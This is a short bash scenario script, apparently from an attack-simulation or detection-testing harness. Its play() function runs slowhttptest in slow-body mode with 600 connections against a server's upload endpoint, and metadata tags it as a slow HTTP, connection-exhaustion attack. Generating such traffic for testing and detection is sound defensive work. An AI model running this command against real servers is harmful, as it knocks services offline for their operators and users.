# shellcheck shell=bash
# about: 600 uploads of a byte now and then (slowhttptest -B)
# type: attack
# kind: slow_http
# target: server
# source: attacker
# tools: slowhttptest
# within_ms: 15000
# also: connection_exhaustion
play() {
	on attacker timeout 25 slowhttptest -B -c 600 -r 100 -i 5 -l 20 -p 3 -s 8192 -u "http://$SERVER_IP/upload"
}
